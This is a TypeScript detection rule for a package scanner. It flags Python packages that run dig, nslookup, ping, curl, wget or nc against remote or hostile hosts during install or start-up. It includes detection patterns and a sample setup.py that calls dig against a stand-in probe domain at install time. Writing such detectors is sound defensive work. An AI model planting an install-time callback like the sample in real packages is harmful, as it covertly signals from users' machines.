import { defineRule } from '../types.js';
import type { PyPackage, PyReport } from '../../analysis/python/model.js';
import { short, triggerOf } from '../../analysis/python/model.js';
import { at, when } from './util.js';
import { isHostileDest } from '../../analysis/python/values.js';

/** DNS and reachability tools: a build has no reason to run them; a callback probe does. */
const DNS_TOOL_RE = /^\s*(?:\S*[\\/])?(?:dig|nslookup|host|ping|ping6|drill|kdig|resolvectl\s+query)(?:\.exe)?\s+(?:-\S+\s+)*(?:@\S+\s+)?(?:-\S+\s+)*([A-Za-z0-9\uFFFD_-]+(?:\.[A-Za-z0-9\uFFFD_-]+)+)/i;
const LOCAL_RE = /^(?:localhost|127\.\d+\.\d+\.\d+|::1|0\.0\.0\.0)$/i;

export const installBeacon = defineRule<PyPackage, PyReport>({
  meta: {
    id: 'py/install-beacon',
    kind: 'threat',
    category: 'exfiltration',
    severity: 'critical',
    confidence: 'high',
    ecosystems: ['pypi'],
    description:
      'Runs a DNS or reachability tool (dig, nslookup, host, ping) against a remote name, or a network tool (curl, wget, nc) against an interaction service, paste site, messenger, bare IP or .onion, while being installed or at start-up: the callback of an install-time probe.',
    examples: {
      positive: [{ files: { 'setup.py': "import subprocess\nsubprocess.getoutput('dig @1.1.1.1 install.probe.example.invalid')\n" } }],
      negative: [
        { files: { 'setup.py': "import subprocess\nsubprocess.check_call(['cmake', '--version'])\n" } },
        { files: { 'pkg/net.py': "import subprocess\ndef check(host):\n    return subprocess.call(['ping', '-c', '1', host])\n" } },
      ],
    },
  },
  check(pkg, report) {
    for (const file of pkg.files) {
      // curl/wget/nc to an interaction service, paste site, messenger, bare IP or .onion at install time.
      for (const k of file.facts.sinks) {
        if (k.kind !== 'command' || !isHostileDest(k.dest)) continue;
        const trigger = triggerOf(file, k);
        if (trigger !== 'install' && trigger !== 'startup') continue;
        report({ ...at(file, k), message: `Contacts ${k.dest?.host ?? 'a hostile destination'} (${k.dest?.cls ?? ''}) with a network tool ${when(trigger)}.` });
      }
      for (const c of file.facts.commands) {
        const trigger = triggerOf(file, c);
        if (trigger !== 'install' && trigger !== 'startup') continue;
        const m = DNS_TOOL_RE.exec(c.cmd);
        const name = m?.[1];
        if (name === undefined || LOCAL_RE.test(name)) continue;
        report({ ...at(file, c), message: `Looks up ${short(name, 80)} with a DNS/reachability tool ${when(trigger)}: ${short(c.cmd)}.` });
      }
    }
  },
});
